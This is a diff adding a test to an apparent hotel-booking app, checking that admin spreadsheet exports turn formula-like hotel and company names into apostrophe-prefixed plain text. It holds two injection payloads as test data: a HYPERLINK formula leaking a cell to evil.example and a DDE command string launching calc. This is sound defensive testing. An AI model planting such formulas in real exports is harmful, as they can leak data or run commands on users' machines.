@@ -9,6 +9,7 @@ import { createUser, loginAs, tokensByRole } from '../../../test/fixtures';
 import { createHotel, stayFromToday } from '../../../test/hotel-fixtures';
 import { book, bookingScenario } from '../../../test/booking-fixtures';
 import { PinnedClock } from '../../platform/clock';
+import { User } from '../users/user.entity';
 
 let app: TestApp;
 let tokens: Record<Role, string>;
@@ -459,6 +460,31 @@ describe('manager applications and users', () => {
       expect(rows[0]!.slice(0, 3)).toEqual(header);
       expect(rows.length).toBeGreaterThan(1);
     }
+  });
+
+  it('writes a lodging or company name that reads as a formula as plain text starting with an apostrophe', async () => {
+    const payload = '=HYPERLINK("http://evil.example/?leak="&B2,"x")';
+    const { hotel } = await createHotel(app.orm, { name: payload });
+    const applicant = await createUser(app.orm, 'ROLE_PENDING', { name: '신청자' });
+    await app.orm.em.fork().nativeUpdate(User, { id: applicant.id }, { companyName: '@SUM(1+1)*cmd|"/c calc"!A0' });
+    const cellsOf = async (path: string, id: number, column: string) => {
+      const response = await fetch(`${app.url}${path}`, { headers: { Authorization: `Bearer ${admin}` } });
+      const book = XLSX.read(Buffer.from(await response.arrayBuffer()), { cellFormula: true });
+      const sheet = book.Sheets[book.SheetNames[0]!]!;
+      const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(sheet);
+      const at = rows.findIndex((row) => row['번호'] === id);
+      const col = Object.keys(rows[0]!).indexOf(column);
+      return { text: rows[at]![column], cell: sheet[XLSX.utils.encode_cell({ r: at + 1, c: col })] as XLSX.CellObject };
+    };
+    const lodging = await cellsOf('/api/admin/hotels/export.xlsx', hotel.id, '숙소명');
+    expect(lodging.text).toBe(`'${payload}`);
+    expect(lodging.cell).toMatchObject({ t: 's' });
+    expect(lodging.cell.f).toBeUndefined();
+    const company = await cellsOf('/api/admin/users/export.xlsx', applicant.id, '회사명');
+    expect(company.text).toBe(`'@SUM(1+1)*cmd|"/c calc"!A0`);
+    expect(company.cell).toMatchObject({ t: 's' });
+    const numbers = await cellsOf('/api/admin/hotels/export.xlsx', hotel.id, '번호');
+    expect(numbers.cell).toMatchObject({ t: 'n', v: hotel.id });
   });
 });
 
